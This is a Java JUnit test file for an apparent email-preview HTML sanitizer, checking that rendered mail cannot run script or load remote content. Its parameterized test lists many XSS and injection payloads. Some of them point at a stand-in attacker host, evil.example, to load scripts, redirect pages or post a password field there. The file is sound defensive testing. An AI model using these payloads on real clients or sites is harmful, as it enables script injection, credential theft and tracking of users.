package org.tinypixel.mail;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.util.ArrayDeque;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

final class PreviewPageTest {
    private static final URI PUBLIC = URI.create("https://t.example.com");
    private static final Set<String> HARMLESS = Set.of(
            "html",
            "head",
            "body",
            "meta",
            "title",
            "style",
            "p",
            "div",
            "h1",
            "h2",
            "h3",
            "h4",
            "h5",
            "h6",
            "ul",
            "ol",
            "li",
            "blockquote",
            "b",
            "i",
            "font",
            "s",
            "u",
            "o",
            "sup",
            "sub",
            "ins",
            "del",
            "strong",
            "strike",
            "tt",
            "code",
            "big",
            "small",
            "br",
            "span",
            "em",
            "table",
            "caption",
            "colgroup",
            "col",
            "thead",
            "tbody",
            "tfoot",
            "tr",
            "td",
            "th",
            "center",
            "hr",
            "pre",
            "address",
            "dl",
            "dt",
            "dd",
            "figure",
            "figcaption",
            "article",
            "section",
            "header",
            "footer",
            "main",
            "img",
            "a");

    @Tag("V1")
    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<scr<script>ipt>alert(1)</scr</script>ipt>",
                "<SCRIPT/SRC=//evil.example/x.js></SCRIPT>",
                "<img src=x onerror=alert(1)>",
                "<img src=`javascript:alert(1)`>",
                "<img/src='x'/onerror='alert(1)'>",
                "<img src='https://t.example.com/a.gif' onload=alert(1) alt='<script>'>",
                "<svg onload=alert(1)><circle r=1></svg>",
                "<svg><script>alert(1)</script></svg>",
                "<svg><style><img src=x onerror=alert(1)></style></svg>",
                "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
                "<svg><use href='data:image/svg+xml;base64,PHN2Zy8+#x'/></svg>",
                "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
                "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
                "<math><mtext></p><p><style><!--</style><img src=x onerror=alert(1)>--></style></math>",
                "<math href='javascript:alert(1)'>x</math>",
                "<math><mi xlink:href='data:text/html,<script>alert(1)</script>'>x</mi></math>",
                "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
                "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
                "<title><img src=x onerror=alert(1)></title>",
                "<xmp><img src=x onerror=alert(1)></xmp>",
                "<plaintext><img src=x onerror=alert(1)>",
                "<template><img src=x onerror=alert(1)></template>",
                "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
                "<iframe src='javascript:alert(1)'></iframe>",
                "<object data='data:text/html,<script>alert(1)</script>'></object>",
                "<embed src='javascript:alert(1)'>",
                "<applet code=x></applet>",
                "<base href='https://evil.example/'>",
                "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
                "<link rel=stylesheet href='https://evil.example/x.css'>",
                "<style>@import 'https://evil.example/x.css'; body{background:url(https://evil.example/x)}</style>",
                "<p style=\"background:url('https://evil.example/x')\">x</p>",
                "<p style=\"background-image:\\75rl(https://evil.example/x)\">x</p>",
                "<p style='behavior:url(#default#time2)'>x</p>",
                "<p style='-moz-binding:url(https://evil.example/x#a)'>x</p>",
                "<p style='width:expression(alert(1))'>x</p>",
                "<p style='position:fixed;top:0;left:0;width:100%;height:100%'>x</p>",
                "<p style='color:red;}</style><script>alert(1)</script>'>x</p>",
                "<a href='javascript:alert(1)'>x</a>",
                "<a href='  jav&#x09;ascript:alert(1)'>x</a>",
                "<a href='java\u0000script:alert(1)'>x</a>",
                "<a href='JaVaScRiPt&colon;alert(1)'>x</a>",
                "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
                "<a href='vbscript:msgbox(1)'>x</a>",
                "<a href='https://ok.example/' onclick='alert(1)' target=_top>x</a>",
                "<form action='https://evil.example/'><input name=password><button formaction=javascript:alert(1)>x",
                "<details open ontoggle=alert(1)>x</details>",
                "<video><source onerror=alert(1)></video>",
                "<audio src=x onerror=alert(1)>",
                "<marquee onstart=alert(1)>x</marquee>",
                "<body onload=alert(1)>x</body>",
                "<table background='https://evil.example/x'><tr><td background=javascript:alert(1)>x</table>",
                "<img src='https://evil.example/pixel.gif'>",
                "<img src='//evil.example/pixel.gif'>",
                "<img src='https://t.example.com.evil.example/pixel.gif'>",
                "<img src='https://t.example.com@evil.example/pixel.gif'>",
                "<img srcset='https://evil.example/x.gif 1x'>",
                "<picture><source srcset='https://evil.example/x.gif'></picture>",
                "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
                "<img src='data:text/html,<script>alert(1)</script>'>",
                "<input type=image src=x onerror=alert(1)>",
                "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
                "<![CDATA[<script>alert(1)</script>]]>",
                "<?xml-stylesheet href='javascript:alert(1)'?>",
                "<a href='https://ok.example/\"><script>alert(1)</script>'>x</a>",
                "<div id=x name=body contenteditable autofocus onfocus=alert(1) tabindex=1>x</div>",
                "<select><template><style><!--</style><a rel=\"--></style></select><img src=x onerror=alert(1)>\">",
                "&lt;script&gt;alert(1)&lt;/script&gt;",
                "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
                "<p>never closed <table><tr><td><a href='https://ok.example/'>",
            })
    void nothing_in_a_mail_can_act_or_call_home(String html) {
        assertHarmless(page(html, true));
        // What a browser makes of the result and prints again must be harmless, too (mutation).
        assertHarmless(Jsoup.parse(page(html, true)).outerHtml());
    }

    @Test
    void formatting_tables_and_inline_styles_stay() {
        var page = Jsoup.parse(page(
                "<table width=600 cellpadding=4 bgcolor='#eeeeee'><tr><td align=center style='color:#ff0000;padding:4px'>"
                        + "<b>Grüße</b> <font color=blue>blue</font></td></tr></table>",
                true));
        var cell = page.selectFirst("table[width=600][cellpadding=4][bgcolor=#eeeeee] td[align=center]");
        assertThat(cell).isNotNull();
        assertThat(cell.attr("style")).contains("color:#ff0000", "padding:4px");
        assertThat(cell.selectFirst("b").text()).isEqualTo("Grüße");
        assertThat(cell.selectFirst("font[color=blue]")).isNotNull();
    }

    @Test
    void a_link_opens_elsewhere_and_tells_nothing() {
        var link = Jsoup.parse(page("<a href='https://t.example.com/t/c/abc?u=https%3A%2F%2Fx.example%2F'>x</a>", true))
                .selectFirst("a");
        assertThat(link.attr("href")).isEqualTo("https://t.example.com/t/c/abc?u=https%3A%2F%2Fx.example%2F");
        assertThat(link.attr("target")).isEqualTo("_blank");
        assertThat(link.attr("rel").split(" ")).contains("noopener", "noreferrer");
    }

    @Test
    void the_pixel_is_loaded_when_images_are_shown_and_only_then() {
        var pixel = "<img src='https://t.example.com/t/o/abc.gif' width=1 height=1 alt=''>";
        assertThat(Jsoup.parse(page(pixel, true)).select("img[src=https://t.example.com/t/o/abc.gif]"))
                .hasSize(1);
        assertThat(Jsoup.parse(page(pixel, false)).select("img[src]")).isEmpty();
    }

    @Test
    void a_picture_inside_the_mail_is_shown_from_the_mail() {
        var content = new MimeReader.Content(
                List.of(),
                "<img src='cid:logo@x'><img src='cid:drawing@x'><img src='cid:unknown'>",
                "",
                Map.of(
                        "logo@x", new MimeReader.Inline("image/png", new byte[] {1, 2, 3}),
                        "drawing@x", new MimeReader.Inline("image/svg+xml", new byte[] {1})),
                List.of());
        var pictures = Jsoup.parse(new PreviewPage(PUBLIC, false).of(content)).select("img[src]");
        assertThat(pictures.eachAttr("src")).containsExactly("data:image/png;base64,AQID");
    }

    @Test
    void a_mail_without_html_shows_its_text_as_it_is_broken() {
        var content = new MimeReader.Content(List.of(), null, "a <b> & \"c\"\n  d", Map.of(), List.of());
        var pre = Jsoup.parse(new PreviewPage(PUBLIC, true).of(content)).selectFirst("pre");
        assertThat(pre.wholeText()).isEqualTo("a <b> & \"c\"\n  d");
        assertThat(pre.children()).isEmpty();
    }

    private static String page(String html, boolean images) {
        return new PreviewPage(PUBLIC, images).of(new MimeReader.Content(List.of(), html, "", Map.of(), List.of()));
    }

    private static void assertHarmless(String page) {
        var document = Jsoup.parse(page);
        var waiting = new ArrayDeque<Element>(document.children());
        while (!waiting.isEmpty()) {
            var element = waiting.pop();
            waiting.addAll(element.children());
            assertThat(HARMLESS).as(page).contains(element.normalName());
            if (element.normalName().equals("style")) {
                assertThat(element.parent().normalName()).as(page).isEqualTo("head");
                assertThat(element.data()).as(page).doesNotContain("url(", "@import", "evil");
            }
            element.attributes().forEach(attribute -> {
                var name = attribute.getKey().toLowerCase(Locale.ROOT);
                var value = attribute.getValue().toLowerCase(Locale.ROOT);
                assertThat(name)
                        .as(page)
                        .doesNotStartWith("on")
                        .isNotIn("srcdoc", "srcset", "formaction", "background");
                switch (name) {
                    case "href" -> assertThat(value).as(page).startsWith("https://ok.example/");
                    case "src" -> assertThat(value).as(page).startsWith("https://t.example.com/");
                    case "style" ->
                        assertThat(value)
                                .as(page)
                                .doesNotContain("url(", "expression", "behavior", "binding", "fixed", "\\");
                    case "target" -> assertThat(value).as(page).isEqualTo("_blank");
                    case "http-equiv" -> throw new AssertionError("a refresh in " + page);
                    default -> {}
                }
            });
        }
        assertThat(page.getBytes(StandardCharsets.UTF_8)).isNotEmpty();
    }
}
